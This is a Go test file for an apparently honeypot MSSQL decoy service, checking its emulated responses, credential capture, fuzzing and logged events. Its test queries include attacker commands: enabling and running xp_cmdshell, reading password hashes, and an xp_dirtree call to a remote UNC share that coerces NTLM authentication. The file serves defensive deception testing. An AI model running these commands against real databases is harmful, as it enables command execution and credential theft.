package mssql

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/services/internal/bait"
	"decnet/decoy/services/internal/servicetest"
	"decnet/decoy/services/internal/windows"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// onWindows is an identity of a Windows server whose SQL Server is as wanted.
func onWindows(t testing.TB, wanted func(*server) bool) control.Identity {
	t.Helper()
	id := decoytest.Identity()
	id.OS = "windows_server"
	return servicetest.Such(t, id, func(h *decoy.Host) bool { return wanted(newServer(h)) })
}

// tsql runs FreeTDS's client with a query of several batches.
func tsql(t *testing.T, d *decoytest.Decky, version, user, password, query string) string {
	t.Helper()
	t.Setenv("TDSVER", version)
	host, port, err := net.SplitHostPort(d.Address(1433))
	if err != nil {
		t.Fatal(err)
	}
	out, err := servicetest.Run(t, query, "tsql", "-o", "q", "-H", host, "-p", port, "-U", user, "-P", password)
	if err != nil {
		t.Logf("tsql: %v", err)
	}
	return out
}

func TestWrongPassword(t *testing.T) {
	for _, version := range []string{"7.0", "7.1", "7.2", "7.4"} {
		d := decoytest.Start(t, "mssql")
		out := tsql(t, d, version, "sa", "not this", "GO\n")
		servicetest.Contains(t, out, "Msg 18456", "severity 14", "Login failed for user 'sa'.")
		d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "sa"), decoytest.Has(event.Secret, "not this"), decoytest.Has(event.Outcome, event.Rejected), decoytest.Has("client_program", "TSQL"))
		if version != "7.0" { // which knew no encryption
			d.Wait("tls", decoytest.Has("tls_version", "TLS 1.2"))
		}
	}
}

func TestRealClient(t *testing.T) {
	for _, version := range []string{"7.0", "7.1", "7.2", "7.4"} {
		d := decoytest.StartAs(t, onWindows(t, func(v *server) bool { return !v.shell && v.year > 2014 }), "mssql")
		app := bait.AppOf(d.Host)
		v := newServer(d.Host)
		out := tsql(t, d, version, "sa", v.passwords("sa")[0], `SELECT @@VERSION
GO
SELECT name, database_id FROM sys.databases
GO
SELECT name FROM master..sysdatabases WHERE name LIKE 'te%'
GO
USE `+app.Name+`
GO
SELECT TOP 2 username, [password_hash] FROM dbo.users WHERE username = N'admin' SELECT COUNT(*) AS n FROM orders
GO
SELECT * FROM nonesuch
GO
SELEC 1
GO
SELECT nonesuch FROM users
GO
SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES
GO
INSERT INTO users VALUES (1)
GO
EXEC master..xp_cmdshell 'whoami'
GO
EXEC sp_configure 'xp_cmdshell', 1
GO
EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;
GO
EXEC master..xp_cmdshell 'whoami'
GO
DECLARE @x varchar(20) SELECT IS_SRVROLEMEMBER('sysadmin') AS boss
GO
USE nonesuch
GO
exec sp_nonesuch
GO
exec xp_dirtree '\\203.0.113.7\share'
GO
SELECT 'unclosed
GO
`)
		servicetest.Contains(t, out, "Microsoft SQL Server 20", v.machine.Product, "tempdb", app.People[0].Hash, "Invalid object name 'nonesuch'.", "Could not find stored procedure 'SELEC'", "Invalid column name 'nonesuch'.", "api_keys",
			`Failed to update database "`+app.Name+`" because the database is read-only.`, "Msg 15281", "Msg 15123", "Configuration option 'show advanced options' changed from 0 to 1. Run the RECONFIGURE statement to install.",
			`nt service\mssqlserver`, "boss", "Database 'nonesuch' does not exist.", "Could not find stored procedure 'sp_nonesuch'.", "Unclosed quotation mark after the character string")
		d.Wait("query", decoytest.Has(event.Command, "EXEC master..xp_cmdshell 'whoami'\n"))
		d.Wait(event.CommandRun, decoytest.Has(event.Command, "whoami"), decoytest.Has("how", "xp_cmdshell"), decoytest.Has(event.Outcome, "run"))
		d.Wait("outbound", decoytest.Has("target", `\\203.0.113.7\share`))
		d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted))
	}
}

func TestApplicationLogsInToItsDatabase(t *testing.T) {
	d := decoytest.Start(t, "mssql")
	app := bait.AppOf(d.Host)
	servicetest.Contains(t, tsql(t, d, "7.4", app.Name, app.Secret, "SELECT SUSER_NAME(), DB_NAME(), @@SERVERNAME\nGO\n"), app.Name, "master", "SRV-ALPHA-42")
}

func TestScannerNamesTheProduct(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, onWindows(t, func(v *server) bool { return v.year == 2019 }), "mssql")
	servicetest.Contains(t, servicetest.Scan(t, d, 1433), "Microsoft SQL Server 2019 15.00.")
}

func TestWindowsLoginIsCaptured(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "mssql")
	conn := d.Dial(1433)
	c := stream{rw: conn}
	negotiate := append([]byte("NTLMSSP\x00"), 1, 0, 0, 0, 0x97, 0x82, 0x08, 0xe2)
	negotiate = append(negotiate, make([]byte, 24)...)
	message := make([]byte, 94)
	message[0], message[4], message[5], message[7] = byte(94+len(negotiate)), 0x01, 0, 0x71
	message[78], message[80] = 94, byte(len(negotiate))
	if err := c.send(msgLogin, append(message, negotiate...)); err != nil {
		t.Fatal(err)
	}
	kind, body := reply(t, conn)
	if kind != msgReply || body[0] != tokSSPI || !bytes.Contains(body, []byte("NTLMSSP\x00\x02")) || !bytes.Contains(body, windows.UTF16(windows.MachineOf(d.Host).DNSName)) {
		t.Fatalf("reply %d %x", kind, body)
	}
	proof := append([]byte("NTLMSSP\x00"), 3, 0, 0, 0)
	user, answer := windows.UTF16("bob"), bytes.Repeat([]byte{0xab}, 60)
	for _, field := range [][2]int{{0, 64}, {len(answer), 64}, {0, 64}, {len(user), 64 + len(answer)}, {0, 64}, {0, 64}} {
		proof = append(proof, byte(field[0]), 0, byte(field[0]), 0, byte(field[1]), 0, 0, 0)
	}
	proof = append(append(append(proof, 1, 2, 0, 0), answer...), user...)
	if err := c.send(msgSSPI, proof); err != nil {
		t.Fatal(err)
	}
	if _, body := reply(t, conn); !bytes.Contains(body, windows.UTF16(`Login failed for user '\bob'.`)) {
		t.Errorf("the refusal is %q", windows.Text(body))
	}
	e := d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "bob"), decoytest.Has(event.SecretKind, "netntlmv2"))
	if secret, _ := e.Get(event.Secret); !strings.HasPrefix(secret, "bob:::") || !strings.HasSuffix(secret, ":"+strings.Repeat("ab", 16)+":"+strings.Repeat("ab", 44)) {
		t.Errorf("the proof is %q", secret)
	}
}

// reply reads what the server sends as one packet: the framing of package mssql takes only what a client sends.
func reply(t *testing.T, conn net.Conn) (kind byte, body []byte) {
	t.Helper()
	head := make([]byte, 8)
	if _, err := io.ReadFull(conn, head); err != nil {
		t.Fatal(err)
	}
	body = make([]byte, int(binary.BigEndian.Uint16(head[2:]))-8)
	if _, err := io.ReadFull(conn, body); err != nil {
		t.Fatal(err)
	}
	return head[0], body
}

func TestParametersOfACall(t *testing.T) {
	t.Parallel()
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		t.Fatal(err)
	}
	text := func(name, value string) []byte {
		b := append(short(name), 0, 0xe7, 0x40, 0x1f, 9, 4, 0xd0, 0, 0x34)
		units := windows.UTF16(value)
		return append(binary.LittleEndian.AppendUint16(b, uint16(len(units))), units...)
	}
	number := append(short("@n"), 0, 0x26, 4, 4, 5, 0, 0, 0)
	call := slices.Concat([]byte{0xff, 0xff, 10, 0, 0, 0}, text("", "SELECT name FROM sys.databases WHERE name = @P1 AND database_id < @n"), text("", "@p1 nvarchar(10), @n int"), text("@p1", "tempdb"), number)
	c := &conn{server: newServer(h), s: &decoy.Session{}, db: "master", version: tds71, pending: map[string]string{}}
	c.call(call)
	if out := c.out.Bytes(); !bytes.Contains(out, windows.UTF16("tempdb")) || bytes.Contains(out, windows.UTF16("Incorrect")) {
		t.Errorf("the answer is %q", out)
	}
}

func TestDeckiesDiffer(t *testing.T) {
	t.Parallel()
	servicetest.Looks(t, 10, func(h *decoy.Host) string {
		v := newServer(h)
		return fmt.Sprint(v.banner(), v.passwords("sa"), v.shell)
	})
}

// A prelogin as FreeTDS sends it, and a login that isn't whole.
const (
	prelogin  = "\x12\x01\x00\x2f\x00\x00\x00\x00\x00\x00\x1a\x00\x06\x01\x00\x20\x00\x01\x02\x00\x21\x00\x01\x03\x00\x22\x00\x04\x04\x00\x26\x00\x01\xff\x09\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00"
	loginHead = "\x10\x01\x00\x80\x00\x00\x01\x00"
)

func TestAbandonedConnectionsEnd(t *testing.T) {
	t.Parallel()
	servicetest.Abandoned(t, "mssql", 1433, prelogin, loginHead)
}

func TestGarbage(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "mssql")
	servicetest.Garbage(t, d, 1433, prelogin, loginHead, prelogin+loginHead, "\x12\x01\x00", "\x01\x01\xff\xff")
	servicetest.Recovers(t, func() bool {
		conn, err := net.Dial("tcp", d.Address(1433))
		if err != nil {
			return false
		}
		defer conn.Close()
		fmt.Fprint(conn, prelogin)
		head := make([]byte, 8)
		_, err = io.ReadFull(conn, head)
		return err == nil && head[0] == msgReply
	})
}

func FuzzMessages(f *testing.F) {
	raw, err := hex.DecodeString("ffff0a00000000e7401f0904d000340e00530045004c00450043005400200031000000e7401f0904d00034ffff")
	if err != nil {
		f.Fatal(err)
	}
	f.Add(raw)
	f.Add([]byte(prelogin[8:]))
	f.Add(make([]byte, 100))
	f.Fuzz(func(t *testing.T, data []byte) {
		if o, ok := parsePrelogin(data); ok && len(o) > 256 {
			t.Fatal("too many options")
		}
		if l, err := parseLogin(data); err == nil && len(l.password) > 2*len(data) {
			t.Fatalf("a password of %d bytes", len(l.password))
		}
		parseCall(data)
		p := stream{rw: bytes.NewBuffer(data)}
		for {
			if _, _, err := p.read(1 << 16); err != nil {
				return
			}
		}
	})
}

func FuzzBatch(f *testing.F) {
	for _, text := range []string{"SELECT TOP 3 * FROM master..sysdatabases", "EXEC sp_configure 'a', 1;RECONFIGURE", "exec ('select 1')", "DECLARE @a int EXEC @a = xp_cmdshell [x]", "USE x SELECT TOP(1) 'a", "SELECT SERVERPROPERTY('Edition')"} {
		f.Add(text)
	}
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		f.Fatal(err)
	}
	v := newServer(h)
	f.Fuzz(func(t *testing.T, text string) {
		c := &conn{server: v, s: &decoy.Session{}, db: v.app.Name, version: tds74, pending: map[string]string{}}
		c.batch(text, tokDone)
		if c.out.Len() == 0 {
			t.Fatal("no answer")
		}
	})
}
